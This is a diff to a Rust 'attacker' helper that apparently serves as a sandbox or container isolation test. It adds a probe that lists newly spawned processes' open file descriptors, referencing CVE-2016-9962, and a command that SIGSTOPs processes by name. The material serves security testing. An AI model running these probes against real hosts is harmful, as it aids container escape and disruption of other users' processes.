@@ -19,7 +19,9 @@ const USAGE: &str = "usage: attacker FOLDER (root | user | keep=UID | hidden)...
        attacker hold COMM FILE
        attacker try COMM
        attacker gate FOLDER
-       attacker kill FOLDER COMM";
+       attacker kill FOLDER COMM
+       attacker descriptors FOLDER
+       attacker stop COMM...";
 
 const PTRACE_DETACH: usize = 17;
 const PTRACE_ATTACH: usize = 16;
@@ -28,6 +30,7 @@ const PR_SET_KEEPCAPS: usize = 8;
 const PR_CAPBSET_DROP: usize = 24;
 const CAP_SYS_PTRACE: usize = 19;
 const SIGKILL: usize = 9;
+const STOP: usize = 19;
 
 fn main() {
     let arguments: Vec<String> = std::env::args().skip(1).collect();
@@ -38,6 +41,8 @@ fn main() {
         ["hold", comm, file] => hold(comm, Path::new(file)),
         ["try", comm] => try_once(comm),
         ["gate", folder] => gate(Path::new(folder)),
+        ["descriptors", folder] => descriptors(Path::new(folder)),
+        ["stop", comms @ ..] => stop(comms),
         ["kill", folder, comm] => kill(Path::new(folder), comm),
         [folder, identities @ ..] if !identities.is_empty() => start(folder, identities),
         _ => eprintln!("{USAGE}"),
@@ -266,6 +271,38 @@ fn reach(comm: &str) {
     println!("environ {}", String::from_utf8_lossy(&environment).replace('\0', " "));
 }
 
+/// CVE-2016-9962: whatever a process has open that has just come in. `fd COMM KIND LINK` for each that can be followed.
+fn descriptors(folder: &Path) {
+    println!("ready descriptors");
+    let (before, mut seen, mut tried) = (pids(), BTreeSet::new(), 0_usize);
+    println!("looking descriptors");
+    while !folder.join("stop").exists() {
+        for pid in pids().difference(&before) {
+            let comm = fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
+            let comm = comm.trim();
+            // By number as well: a table that cannot be listed may be guessed.
+            for fd in 0..32 {
+                tried += 1;
+                let path = format!("/proc/{pid}/fd/{fd}");
+                let Ok(kind) = fs::metadata(&path) else { continue };
+                let kind = if kind.is_dir() { "directory" } else { "file" };
+                // Closed meanwhile: it led nowhere.
+                let Ok(link) = fs::read_link(&path) else { continue };
+                let link = link.to_string_lossy();
+                // Of pipes and the like the number does not matter.
+                let what = link.split(':').next().unwrap_or_default();
+                if seen.insert(format!("{comm} {what}")) {
+                    println!("fd {comm} {kind} {link}");
+                }
+            }
+            if seen.insert(format!("met {comm}")) {
+                println!("met {comm}.");
+            }
+        }
+    }
+    println!("done descriptors tried={tried}");
+}
+
 /// Holds the programs of a process, and tries to write to them until `file` appears and the process is gone.
 fn hold(comm: &str, file: &Path) {
     let pid = find(comm);
@@ -293,9 +330,16 @@ fn kill(folder: &Path, comm: &str) {
     println!("done kill killed={killed}");
 }
 
+/// Stops a process of each name, for good.
+fn stop(comms: &[&str]) {
+    for comm in comms {
+        signal(find(comm), STOP);
+        println!("stopped {comm}");
+    }
+}
+
 /// Lets a supervisor go on in small steps until it has forked its tool-to-be, and has that one not wait for it.
 fn gate(folder: &Path) {
-    const STOP: usize = 19;
     const CONTINUE: usize = 18;
     println!("ready gate");
     let (mut stopped, mut done) = (0, BTreeSet::new());
